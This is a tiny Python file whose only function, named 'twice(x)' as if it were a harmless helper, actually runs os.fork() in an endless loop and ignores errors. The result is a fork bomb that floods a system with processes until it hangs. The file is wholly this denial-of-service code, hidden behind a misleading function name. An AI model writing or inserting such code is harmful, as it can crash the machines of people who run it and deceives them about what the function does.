# Forks without end while it is asked.

import os


def twice(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
